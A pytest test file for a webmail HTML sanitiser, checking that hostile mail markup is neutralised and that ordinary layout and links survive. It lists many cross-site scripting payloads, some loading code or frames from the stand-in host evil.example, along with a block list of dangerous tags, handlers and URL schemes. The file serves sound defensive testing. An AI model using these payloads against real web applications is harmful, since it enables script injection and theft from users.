"""webmail/sanitize.py on hostile and ordinary mail HTML (no server needed)."""

from __future__ import annotations

import pytest

from webmail.sanitize import PLACEHOLDER, linkify_text, sanitise_composed, sanitise_html


def clean(html: str, **kw: object) -> str:
    return sanitise_html(html, **kw).html  # type: ignore[arg-type]


@pytest.mark.parametrize("payload", [
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="window.__xss=1">',
    '<body onload="window.__xss=1">',
    '<div onmouseover="window.__xss=1">x</div>',
    '<svg onload="window.__xss=1"><script>window.__xss=2</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example/"><input name=p><button>go</button></form>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>@import url(https://evil.example/x.css);</style>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<<img src=x onerror=alert(1)>',
    '<img """><script>alert(1)</script>">',
    '<!--<img src=x onerror=alert(1)>-->',
    '<template><img src=x onerror=alert(1)></template>',
    '<input autofocus onfocus=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<video><source onerror=alert(1)></video>',
])
def test_nothing_active_survives(payload: str) -> None:
    out = clean(payload).lower()
    for bad in ("<script", "onerror", "onload", "onmouseover", "onfocus", "ontoggle", "javascript:", "vbscript:",
                "<iframe", "srcdoc", "<object", "<embed", "<form", "<input", "<svg", "<math", "<meta", "<base",
                "<link", "<style", "expression", "behavior", "binding", "data:text"):
        assert bad not in out, (payload, out)


def test_ordinary_mail_keeps_its_layout() -> None:
    html = ('<table width="600" cellpadding="4" bgcolor="#ffffff"><tr><td align="center" style="color:#333;'
            'font-size:14px;padding:8px">Ciao <b>Anna</b>, <i>grazie</i>.</td></tr></table>'
            '<ul><li>uno</li></ul><blockquote>citazione</blockquote><font color="red" face="Arial">rosso</font>')
    out = clean(html)
    for kept in ('width="600"', 'cellpadding="4"', 'bgcolor="#ffffff"', 'align="center"', "color:#333",
                 "font-size:14px", "<b>Anna</b>", "<i>grazie</i>", "<li>uno</li>", "<blockquote>", 'color="red"'):
        assert kept in out, (kept, out)


def test_layout_escaping_properties_are_dropped() -> None:
    out = clean('<div style="position:fixed;top:0;left:0;z-index:9999;color:red">x</div>')
    assert "color:red" in out and "position" not in out and "z-index" not in out


def test_links_open_in_a_new_tab_without_referrer() -> None:
    out = clean('<a href="https://example.com/a?b=1" target="_self" rel="opener">x</a>')
    assert 'href="https://example.com/a?b=1"' in out
    assert 'target="_blank"' in out and 'rel="noopener noreferrer nofollow"' in out and "_self" not in out
    assert 'href="mailto:a@example.com"' in clean('<a href="mailto:a@example.com">m</a>')
    # Relative and protocol-relative links mean nothing in a mail (and would point at the webmail).
    assert "href" not in clean('<a href="/logout">x</a><a href="//evil.example/">y</a><a href="#top">z</a>')


def test_ids_are_dropped() -> None:
    assert "id=" not in clean('<p id="main">x</p><a name="x" id="csrf-token">y</a>')


def test_remote_images_blocked_and_counted() -> None:
    html = ('<img src="https://t.example/p.gif"><img src="http://t.example/q.gif">'
            '<img src="//t.example/r.gif"><table background="https://t.example/bg.png"><tr><td>x</td></tr></table>'
            '<div style="background-image:url(\'https://t.example/s.png\')">y</div>')
    result = sanitise_html(html)
    assert result.blocked == result.remote == 5
    assert "t.example" not in result.html
    assert result.html.count(PLACEHOLDER.replace("'", "&#39;")) + result.html.count(PLACEHOLDER) >= 2


def test_srcset_cannot_sneak_a_remote_image_in() -> None:
    result = sanitise_html('<img src="cid:a" srcset="https://t.example/a.png 1x, https://t.example/b.png 2x">')
    assert "t.example" not in result.html and result.blocked == 1
    # A mixed srcset (data: + remote) is dropped whatever the setting: src is enough.
    mixed = sanitise_html('<img srcset="data:image/png;base64,AAAA 1x, https://t.example/b.png 2x">',
                          allow_remote=True)
    assert "srcset" not in mixed.html


def test_remote_images_shown_when_allowed() -> None:
    result = sanitise_html('<img src="https://t.example/p.gif" srcset="https://t.example/a.png 2x">'
                           '<td style="background:url(https://t.example/s.png)">x</td>', allow_remote=True)
    assert result.blocked == 0 and result.remote == 2
    assert 'src="https://t.example/p.gif"' in result.html and 'srcset="https://t.example/a.png 2x"' in result.html


def test_data_images_only_raster() -> None:
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in clean('<img src="data:image/png;base64,iVBORw0KGgo=">')
    for bad in ("data:image/svg+xml,<svg onload=alert(1)>", "data:text/html,<script>alert(1)</script>",
                "data:application/javascript,alert(1)"):
        assert "src=" not in clean(f'<img src="{bad}">'), bad


def test_cid_images_point_to_the_message_attachment() -> None:
    out = clean('<img src="cid:logo@x" alt="logo"><img src="cid:unknown@x">',
                cid_url=lambda cid: "/mail/5/attachments/9?inline=1" if cid == "logo@x" else None)
    assert '<img src="/mail/5/attachments/9?inline=1" alt="logo">' in out
    assert out.count("src=") == 1
    # The mail's own relative URLs are not ours: removed even when they look the same.
    assert "src=" not in clean('<img src="/mail/5/attachments/9?inline=1">', cid_url=lambda cid: None)


def test_linkify_escapes_first() -> None:
    out = str(linkify_text('Vedi https://a.example/x?a=1&b=2, oppure www.b.it. <script>alert(1)</script> '
                           'http://c.example/"onmouseover="alert(1) javascript:alert(1)'))
    assert '<a href="https://a.example/x?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">' in out
    assert '<a href="https://www.b.it"' in out
    assert "<script>" not in out and "&lt;script&gt;" in out
    assert 'href="http://c.example/"' in out and '"onmouseover' not in out.replace("&#34;onmouseover", "")
    assert 'href="javascript' not in out


def test_composed_html_keeps_formatting_and_links_only() -> None:
    clean = sanitise_composed(
        '<p style="position:fixed">Buongiorno <b>Giulia</b>, <i>ecco</i> <u>il</u> <a href="https://studio.example/p"'
        ' onclick="steal()" target="_top">preventivo</a>.</p><ul><li>uno</li></ul><blockquote>citato</blockquote>'
        '<script>alert(1)</script><img src="https://tracker.example/p.gif" onerror="alert(2)">'
        '<a href="javascript:alert(3)">x</a><a href="/mail/1">interno</a><style>p{}</style><!-- nota -->'
        '<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input></form>')
    assert '<b>Giulia</b>' in clean and '<i>ecco</i>' in clean and '<u>il</u>' in clean
    assert '<a href="https://studio.example/p" rel="noopener noreferrer">preventivo</a>' in clean
    assert '<ul><li>uno</li></ul><blockquote>citato</blockquote>' in clean
    for bad in ("script", "alert", "img", "tracker", "onclick", "onerror", "style", "javascript", "/mail/1",
                "iframe", "evil", "form", "input", "nota", "target"):
        assert bad not in clean, bad
